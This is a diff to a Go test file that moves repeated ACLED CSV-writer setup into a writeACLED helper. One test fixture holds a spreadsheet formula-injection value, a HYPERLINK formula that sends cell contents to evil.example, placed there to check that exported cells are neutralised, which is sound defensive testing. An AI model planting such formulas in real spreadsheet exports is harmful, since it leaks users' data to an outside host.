@@ -205,18 +205,8 @@ func TestACLEDRoundTrip(t *testing.T) {
 	rows := readAllACLED(t, acledHeader+"\n"+acledGood+"\n")
 	e := *event(rows[0])
 	idx := SourceIndex{rows[0].Sources[0].ID: rows[0].Sources[0]}
-	var b bytes.Buffer
-	w, err := NewACLEDWriter(&b, idx)
-	if err != nil {
-		t.Fatal(err)
-	}
-	if err := w.Write(e); err != nil {
-		t.Fatal(err)
-	}
-	if err := w.Flush(); err != nil {
-		t.Fatal(err)
-	}
-	back := readAllACLED(t, b.String())
+	b := writeACLED(t, idx, e)
+	back := readAllACLED(t, b)
 	if len(back) != 1 || back[0].Err != nil {
 		t.Fatalf("%+v", back)
 	}
@@ -295,18 +285,8 @@ func TestACLEDFormulaCells(t *testing.T) {
 	e.Actors = []string{`=HYPERLINK("http://evil.example/?"&A1;"click")`, "@evil"}
 	e.Notes = "-2 shells, +1 mortar"
 	idx := SourceIndex{rows[0].Sources[0].ID: rows[0].Sources[0]}
-	var b bytes.Buffer
-	w, err := NewACLEDWriter(&b, idx)
-	if err != nil {
-		t.Fatal(err)
-	}
-	if err := w.Write(e); err != nil {
-		t.Fatal(err)
-	}
-	if err := w.Flush(); err != nil {
-		t.Fatal(err)
-	}
-	recs, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
+	b := writeACLED(t, idx, e)
+	recs, err := csv.NewReader(strings.NewReader(b)).ReadAll()
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -315,7 +295,7 @@ func TestACLEDFormulaCells(t *testing.T) {
 			t.Errorf("cell %q would run as a formula", cell)
 		}
 	}
-	back := readAllACLED(t, b.String())
+	back := readAllACLED(t, b)
 	if len(back) != 1 || back[0].Err != nil {
 		t.Fatalf("%+v", back)
 	}
@@ -325,3 +305,22 @@ func TestACLEDFormulaCells(t *testing.T) {
 }
 
 func isNumber(s string) bool { _, err := strconv.ParseFloat(s, 64); return err == nil }
+
+// writeACLED writes events in the ACLED layout.
+func writeACLED(t *testing.T, idx SourceIndex, evs ...Event) string {
+	t.Helper()
+	var b bytes.Buffer
+	w, err := NewACLEDWriter(&b, idx)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, e := range evs {
+		if err := w.Write(e); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := w.Flush(); err != nil {
+		t.Fatal(err)
+	}
+	return b.String()
+}
